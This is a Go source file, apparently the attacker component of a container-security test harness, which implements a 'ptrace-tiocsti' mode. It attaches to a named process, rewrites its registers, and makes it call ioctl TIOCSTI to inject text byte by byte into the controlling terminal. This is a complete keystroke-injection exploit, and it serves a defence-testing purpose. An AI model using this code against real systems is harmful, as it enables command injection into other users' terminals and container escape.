package main

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// injectThroughTrace is -mode ptrace-tiocsti: the container's init waits for
// a process named comm that it may trace (root without capabilities: a
// command that dropped them, such as ping, or setpriv --bounding-set=-all),
// attaches to it and makes it call ioctl(0, TIOCSTI, &c) for each byte of
// text, as defence 1's limit in docs/security.md says it can. It logs
// "INJECT pid=N ok" or "INJECT pid=N err=...", then detaches and exits its
// loop when stop exists.
func (a *attacker) injectThroughTrace(comm, text, stop string) {
	runtime.LockOSThread() // every ptrace request from the tracing thread
	tries := map[int]int{} // a process found at its exec may not sleep yet
	for !exists(stop) {
		for _, pid := range a.candidates() {
			if tries[pid] >= 20 || readComm(pid) != comm {
				continue
			}
			tries[pid]++
			err := injectInto(pid, text)
			switch {
			case err == errNotInSyscall:
				continue
			case err != nil:
				a.logf("INJECT pid=%d err=%v", pid, err)
			default:
				a.logf("INJECT pid=%d ok", pid)
			}
			tries[pid] = 20
		}
		time.Sleep(10 * time.Millisecond)
	}
	a.logf("DONE")
	select {}
}

func readComm(pid int) string {
	b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
	return strings.TrimSpace(string(b))
}

// injectInto attaches to pid, which must be blocked in a system call (sleep
// is), and runs ioctl(0, TIOCSTI) in it once per byte of text.
func injectInto(pid int, text string) error {
	if err := unix.PtraceAttach(pid); err != nil {
		return fmt.Errorf("attach: %w", err)
	}
	defer unix.PtraceDetach(pid)
	if err := waitStop(pid); err != nil {
		return err
	}
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &saved); err != nil {
		return fmt.Errorf("getregs: %w", err)
	}
	// Stopped in the middle of a system call: the instruction before rip is it.
	insn := make([]byte, 2)
	if _, err := unix.PtracePeekText(pid, uintptr(saved.Rip-2), insn); err != nil || insn[0] != 0x0f || insn[1] != 0x05 {
		return errNotInSyscall
	}
	defer unix.PtraceSetRegs(pid, &saved)
	buf := uintptr(saved.Rsp - 512) // below the red zone
	for i := 0; i < len(text); i++ {
		word := make([]byte, 8)
		word[0] = text[i]
		if _, err := unix.PtracePokeData(pid, buf, word); err != nil {
			return fmt.Errorf("poke: %w", err)
		}
		r := saved
		r.Rip, r.Rax, r.Orig_rax = saved.Rip-2, unix.SYS_IOCTL, ^uint64(0)
		r.Rdi, r.Rsi, r.Rdx = 0, unix.TIOCSTI, uint64(buf)
		ret, err := runSyscall(pid, &r)
		if err != nil {
			return err
		}
		if errno := -int64(ret); errno > 0 && errno < 4096 {
			return fmt.Errorf("ioctl TIOCSTI in pid %d: %w", pid, unix.Errno(errno))
		}
	}
	return nil
}

var errNotInSyscall = errors.New("not stopped in a system call")

// runSyscall sets r, lets the tracee run to the end of the system call it
// is about to make and returns what the call returned.
func runSyscall(pid int, r *unix.PtraceRegs) (uint64, error) {
	if err := unix.PtraceSetRegs(pid, r); err != nil {
		return 0, fmt.Errorf("setregs: %w", err)
	}
	for stop := 0; stop < 2; stop++ { // syscall entry, then exit
		if err := unix.PtraceSyscall(pid, 0); err != nil {
			return 0, fmt.Errorf("ptrace syscall: %w", err)
		}
		if err := waitStop(pid); err != nil {
			return 0, err
		}
	}
	var out unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &out); err != nil {
		return 0, fmt.Errorf("getregs: %w", err)
	}
	return out.Rax, nil
}

func waitStop(pid int) error {
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		return fmt.Errorf("wait: %w", err)
	}
	if !ws.Stopped() {
		return fmt.Errorf("pid %d did not stop: %v", pid, ws)
	}
	return nil
}
